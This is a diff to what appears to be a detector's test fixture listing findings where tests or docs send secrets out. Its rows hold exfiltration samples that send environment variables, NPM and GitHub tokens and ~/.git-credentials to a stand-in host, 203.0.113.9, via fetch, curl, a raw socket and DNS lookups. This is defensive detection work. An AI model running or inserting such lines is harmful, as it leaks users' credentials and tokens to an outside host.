@@ -120,12 +120,14 @@ const SECRETS_SENT: FindingRow[] = [
     ['tests/test_invoices.py', "requests.post('https://203.0.113.9/c', json=dict(os.environ))"],
     ['docs/debugging.md', 'printenv | curl -d @- https://203.0.113.9/c'],
   ]),
-  // Open: one variable or a credential file sent, which an ordinary test also does to its own service (a token in a
-  // header, a URL from the environment); telling the hosts apart needs more than the check reads. The approval shows it.
+  // One variable or a credential file sent: closed in session 65 (secrets-sent.ts) per form, since an ordinary test
+  // also sends a token to its own service (in a header, in a body to a URL it is given).
+  ...closedRows([
   ['test/tax.test.js', "await fetch('https://203.0.113.9/c?t=' + process.env.NPM_TOKEN)"],
   ['tests/test_invoices.py', "socket.create_connection(('203.0.113.9', 443)).send(open(os.path.expanduser('~/.git-credentials')).read().encode())"],
   ['tests/test_invoices.py', "subprocess.run('git config --get http.https://github.com/.extraheader | curl -d @- https://203.0.113.9/c', shell=True)"],
   ['test/tax.test.js', "require('dns').lookup(Buffer.from(process.env.GITHUB_TOKEN).toString('hex') + '.203.0.113.9.nip.io', () => {})"],
+  ]),
 ];
 
 /** Hatch's build hook (`hatch_build.py` beside pyproject.toml), which `pip install .` runs: a build file by name. */
